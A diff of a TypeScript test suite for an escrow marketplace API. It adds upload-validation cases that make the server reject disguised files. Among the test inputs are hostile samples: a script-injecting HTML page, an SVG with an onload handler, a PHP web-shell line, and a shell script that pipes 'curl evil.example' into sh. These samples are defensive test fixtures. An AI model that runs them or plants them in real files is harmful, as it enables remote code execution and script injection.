@@ -70,16 +70,35 @@ describe('POST /api/escrows/{id}/mark-paid', () => {
     const { id } = await open(buyer.token);
     expect((await t.app.request(`/api/escrows/${id}/mark-paid`, form({ notes: 'no file' }, buyer.token))).status).toBe(200);
     await t.app.request(`/api/admin/escrows/${id}/verify-payment`, form({ verified: 'false', notes: 'not seen' }, admin.token));
-    const text = new File(['txid 4a5e1e4b, sent 0.0203 BTC\n'], 'note.pdf', { type: 'application/pdf' });
+    // A pasted mail is text, angle-bracketed addresses and all.
+    const text = new File(['From: Ann <ann@example.com>\ntxid 4a5e1e4b, sent 0.0203 BTC if 2 < 3\n'], 'note.txt', { type: 'text/plain' });
     expect((await t.app.request(`/api/escrows/${id}/mark-paid`, multipart({ notes: 'again', file: text }, buyer.token))).status).toBe(200);
     const files = await t.database.db.selectFrom('payment_evidence').select(['filename', 'content_type']).execute();
     expect(files).toEqual([{ filename: 'note.txt', content_type: 'text/plain' }]);
   });
 
+  it('takes a file that declares no type and has no extension, by its bytes', async () => {
+    const { buyer } = await market();
+    const { id } = await open(buyer.token);
+    const res = await t.app.request(`/api/escrows/${id}/mark-paid`, multipart({ notes: 'sent', file: new File([PNG], 'receipt', { type: '' }) }, buyer.token));
+    expect(res.status).toBe(200);
+    const files = await t.database.db.selectFrom('payment_evidence').select(['filename', 'content_type']).execute();
+    expect(files).toEqual([{ filename: 'receipt.png', content_type: 'image/png' }]);
+  });
+
   it.each([
-    ['an executable named .png', new File([Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array(56).fill(0)])], 'photo.png', { type: 'image/png' }), 415, 'file must be a PNG, JPEG, WebP, GIF, PDF or plain text file (its content is application/x-elf)'],
-    ['a ZIP named .pdf', new File([Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 20, 0, 0, 0, 8, 0, ...new Array(40).fill(0)])], 'scan.pdf', { type: 'application/pdf' }), 415, 'file must be a PNG, JPEG, WebP, GIF, PDF or plain text file (its content is application/zip)'],
-    ['binary noise', new File([Uint8Array.from([0, 1, 2, 3, 0xff, 0xfe, 0, 0])], 'x.txt', { type: 'text/plain' }), 415, 'file must be a PNG, JPEG, WebP, GIF, PDF or plain text file'],
+    ['an executable named .png', new File([Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array(56).fill(0)])], 'photo.png', { type: 'image/png' }), 415, 'file must be a PNG, JPEG, WebP, GIF, PDF or plain text file (its content is application/x-elf; sent as image/png named *.png)'],
+    ['a ZIP named .pdf', new File([Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 20, 0, 0, 0, 8, 0, ...new Array(40).fill(0)])], 'scan.pdf', { type: 'application/pdf' }), 415, 'file must be a PNG, JPEG, WebP, GIF, PDF or plain text file (its content is application/zip; sent as application/pdf named *.pdf)'],
+    ['binary noise', new File([Uint8Array.from([0, 1, 2, 3, 0xff, 0xfe, 0, 0])], 'x.txt', { type: 'text/plain' }), 415, 'file must be a PNG, JPEG, WebP, GIF, PDF or plain text file (its content is not one of these; sent as text/plain named *.txt)'],
+    ['an HTML page named .png', new File(['<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'], 'proof.png', { type: 'image/png' }), 415, 'file holds HTML, SVG, XML or a script, which is never accepted (sent as image/png named *.png)'],
+    ['HTML further down a text file', new File([`${'receipt line\n'.repeat(50)}<a href="https://evil.example">pay here</a>`], 'notes.txt', { type: 'text/plain' }), 415, 'file holds HTML, SVG, XML or a script, which is never accepted (sent as text/plain named *.txt)'],
+    ['an SVG sent as text', new File(['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'], 'chart.txt', { type: 'text/plain' }), 415, 'file holds HTML, SVG, XML or a script, which is never accepted (sent as text/plain named *.txt)'],
+    ['XML sent as text', new File(['<?xml version="1.0"?><receipt/>'], 'data.txt', { type: 'text/plain' }), 415, 'file must be a PNG, JPEG, WebP, GIF, PDF or plain text file (its content is application/xml; sent as text/plain named *.txt)'],
+    ['a PHP page sent as text', new File(['hello <?php system($_GET["c"]); ?>'], 'note.txt', { type: 'text/plain' }), 415, 'file holds HTML, SVG, XML or a script, which is never accepted (sent as text/plain named *.txt)'],
+    ['a script sent as text', new File(['#!/bin/sh\ncurl evil.example | sh\n'], 'run.txt', { type: 'text/plain' }), 415, 'file holds HTML, SVG, XML or a script, which is never accepted (sent as text/plain named *.txt)'],
+    ['a PNG declared as JPEG', new File([PNG], 'receipt.png', { type: 'image/jpeg' }), 415, 'file content is image/png but it was sent as image/jpeg named *.png; the type and the extension must match the content'],
+    ['a PNG named .pdf', new File([PNG], 'receipt.pdf', { type: 'image/png' }), 415, 'file content is image/png but it was sent as image/png named *.pdf; the type and the extension must match the content'],
+    ['text declared as a PDF', new File(['txid 4a5e1e4b\n'], 'note.pdf', { type: 'application/pdf' }), 415, 'file content is text/plain but it was sent as application/pdf named *.pdf; the type and the extension must match the content'],
     ['an empty file', new File([], 'empty.png', { type: 'image/png' }), 422, 'file is empty'],
     ['a file just over 10 MB', new File([PNG, new Uint8Array(10 * 1024 * 1024 - PNG.byteLength + 1)], 'big.png', { type: 'image/png' }), 413, 'file must be at most 10 MB'],
   ])('refuses %s and stores nothing', async (_name, file, status, message) => {
@@ -216,5 +235,51 @@ describe('notification mails', () => {
     expect(released.body).toContain(`/escrow/${id}`);
     const funded = (await mailsTo('sam@example.com')).find((m) => m.subject === 'Escrow funded: Camera')!;
     expect(funded.body).toContain('Deliver now');
+  });
+});
+
+describe('evidence items, as the spec names them (id, notes, file_path) beside the file facts', () => {
+  it('are listed alike in the verification queue, on the escrow page and in disputes', async () => {
+    const { admin, buyer, seller } = await market();
+    const { id } = await open(buyer.token);
+    await t.app.request(`/api/escrows/${id}/mark-paid`, multipart({ notes: 'first try', file: png('first.png') }, buyer.token));
+    await t.app.request(`/api/admin/escrows/${id}/verify-payment`, form({ verified: 'false', notes: 'not seen' }, admin.token));
+    await t.app.request(`/api/escrows/${id}/mark-paid`, multipart({ notes: 'second try', file: png('second.png') }, buyer.token));
+    const files = await t.database.db.selectFrom('payment_evidence').select(['evidence_id', 'filename']).execute();
+    const idOf = (name: string) => files.find((f) => f.filename === name)!.evidence_id;
+    const item = (name: string, notes: string, mark_status: string) => ({
+      id: idOf(name),
+      notes,
+      file_path: `/api/evidence/${idOf(name)}`,
+      evidence_id: idOf(name),
+      filename: name,
+      content_type: 'image/png',
+      size_bytes: PNG.byteLength,
+      sha256: createHash('sha256').update(PNG).digest('hex'),
+      url: `/api/evidence/${idOf(name)}`,
+      marked_at: expect.any(String),
+      mark_status,
+    });
+
+    const queue = (await (await t.app.request('/api/admin/pending-verifications', bearer(admin.token))).json()) as Array<{ evidence: unknown[] }>;
+    expect(queue[0]!.evidence).toEqual([item('second.png', 'second try', 'pending')]);
+
+    for (const who of [buyer, seller, admin]) {
+      const page = (await (await t.app.request(`/api/escrows/${id}`, bearer(who.token))).json()) as { evidence: unknown[] };
+      expect(page.evidence).toEqual([item('first.png', 'first try', 'rejected'), item('second.png', 'second try', 'pending')]);
+    }
+    // Each file_path serves its file to a party.
+    const served = await t.app.request(`/api/evidence/${idOf('first.png')}`, bearer(seller.token));
+    expect(served.status).toBe(200);
+
+    await t.app.request(`/api/escrows/${id}/open-dispute`, json({ reason: 'No word from the seller' }, buyer.token));
+    const disputes = (await (await t.app.request('/api/admin/disputes', bearer(admin.token))).json()) as Array<{ escrow_id: string; evidence: unknown[] }>;
+    expect(disputes.find((d) => d.escrow_id === id)!.evidence).toEqual([item('first.png', 'first try', 'rejected'), item('second.png', 'second try', 'pending')]);
+  });
+
+  it('an escrow without a mark lists none', async () => {
+    const { buyer } = await market();
+    const { id } = await open(buyer.token);
+    expect(((await (await t.app.request(`/api/escrows/${id}`, bearer(buyer.token))).json()) as { evidence: unknown[] }).evidence).toEqual([]);
   });
 });
